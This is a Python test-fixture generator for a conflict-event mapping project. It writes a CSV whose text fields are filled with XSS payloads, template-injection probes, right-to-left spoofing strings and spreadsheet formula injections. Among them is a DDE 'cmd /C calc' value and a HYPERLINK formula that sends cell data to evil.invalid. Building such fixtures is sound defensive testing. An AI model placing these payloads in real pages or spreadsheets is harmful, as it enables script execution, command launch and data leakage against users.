"""Writes `events_hostile.csv` next to this file: `python tests/data/hostile/make_hostile.py`."""

import csv
import io
import sys
from pathlib import Path

HERE = Path(__file__).resolve().parent
sys.path.insert(0, str(HERE.parents[2]))
from eventmap.schema import COLUMN_NAMES  # noqa: E402

PAYLOADS = [
    ("script", "<script>alert(1)</script>"),
    ("img-onerror", "<img src=x onerror=alert(1)>"),
    ("attr-dq", '" onmouseover="alert(1)" autofocus onfocus="alert(1)" x="'),
    ("attr-sq", "'><svg onload=alert(1)>"),
    ("close-script", "</script><script>alert(1)</script>"),
    ("template", "{{7*7}} ${alert(1)} #{7*7} <%= 7*7 %> {% raw %}"),
    ("backtick", "`+alert(1)+` \\`+alert(1)+\\` \\\\`+alert(1)+`\\\\"),
    ("js-escape", "\\u003cimg src=x onerror=alert(1)\\u003e \\x3csvg onload=alert(1)\\x3e \\'+alert(1)+\\'"),
    ("rtl", "\u202eexe.gnp\u202c \u202bشوشا\u202c \u2067Шуша\u2069 \u200d\u200b\u2066<b>x</b>"),
    ("long", "<b>long</b> " + "Very long text without breaks " * 180 + "<script>alert(1)</script>"),
    ("js-link", '<a href="javascript:alert(1)">click me</a> <iframe src="javascript:alert(1)"></iframe>'),
    ("entities", "&lt;script&gt;alert(1)&lt;/script&gt; &amp;amp; &#60;b&#62;"),
    ("comment", '<!-- ]]> <![CDATA[ <style>*{display:none!important}</style> <base href="http://evil.invalid/">'),
    ("formula-eq", '=HYPERLINK("http://evil.invalid/?d="&A1,"click")'),
    ("formula-plus", "+1+1 <script>alert(1)</script>"),
    ("formula-minus", "-2+3+cmd|' /C calc'!A0"),
    ("formula-at", "@SUM(1+1)*cmd|' /C calc'!A0"),
    ("formula-tab", "\t=1+1"),
    ("formula-cr", "\r=1+1"),
]
SOURCES = [
    "javascript:alert(1)",
    " JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "//evil.invalid/protocol-relative",
    'https://example.org/report?a=1&b=<script>alert(1)</script>"onmouseover="alert(1)',
    "Hostile outlet <img src=x onerror=alert(1)>",
]
TYPES = [
    ("Battles", "Armed clash"),
    ("Explosions/Remote violence", "Shelling/artillery/missile attack"),
    ("Explosions/Remote violence", "Air/drone strike"),
    ("Violence against civilians", "Attack"),
    ("Strategic developments", "Other"),
]
STATUSES = ("confirmed", "claimed", "disputed", "denied")
VERIFICATIONS = ("multi-source", "single-source", "party-claim-only", "unverified")

HOSTILE_EVENT_IDS = (
    'H90"><img src=x onerror=alert(1)>',
    "H91'><svg onload=alert(1)>",
    "H92</script><script>alert(1)</script>",
)


def hostile_row(index: int, tag: str, payload: str) -> dict[str, str]:
    """A valid event whose every text field carries `payload`."""
    event_type, sub_event_type = TYPES[index % len(TYPES)]
    sources = [SOURCES[index % len(SOURCES)], SOURCES[(index + 3) % len(SOURCES)], f"https://example.org/hostile/{tag}"]
    row = {
        "event_id": f"H{index:02d}-{tag}",
        "date": f"2020-10-{1 + index % 9:02d}",
        "date_precision": "day",
        "report_date": "",
        "location": f"{payload} [location {tag}]",
        "latitude": f"{39.3 + 0.05 * index:.4f}",
        "longitude": f"{46.2 + 0.06 * index:.4f}",
        "geo_precision": "exact",
        "country": f"{payload} [country]",
        "admin1": f"{payload} [admin1]",
        "side": f"{payload} [side {tag}]",
        "actor": f"{payload} [actor]",
        "target": f"{payload} [target]",
        "event_type": event_type,
        "sub_event_type": sub_event_type,
        "description": payload,
        "description_original": f"{payload} [وصف أصلي]",
        "language": "ar",
        "fatalities": str(index),
        "injured": "",
        "claimed_by": f"{payload} [claimed_by]",
        "status": STATUSES[index % len(STATUSES)],
        "disputed_by": f"{payload} [disputed_by]",
        "verification": VERIFICATIONS[index % len(VERIFICATIONS)],
        "sources": "; ".join(sources),
        "notes": f"{payload} [notes]",
    }
    assert tuple(row) == COLUMN_NAMES, set(COLUMN_NAMES) ^ set(row)
    return row


def hostile_rows() -> list[dict[str, str]]:
    rows = [hostile_row(i, tag, payload) for i, (tag, payload) in enumerate(PAYLOADS)]
    for j, event_id in enumerate(HOSTILE_EVENT_IDS):
        rows.append(
            {
                **rows[j],
                "event_id": event_id,
                "date": "2020-10-10",
                "latitude": f"{40.1 + 0.05 * j:.4f}",
                "longitude": f"{46.9 + 0.05 * j:.4f}",
            }
        )
    return rows


def main() -> None:
    rows = hostile_rows()
    buffer = io.StringIO(newline="")
    writer = csv.DictWriter(buffer, fieldnames=COLUMN_NAMES, lineterminator="\r\n")
    writer.writeheader()
    writer.writerows(rows)
    (HERE / "events_hostile.csv").write_text(buffer.getvalue(), encoding="utf-8", newline="")
    print(f"{len(rows)} rows")


if __name__ == "__main__":
    main()
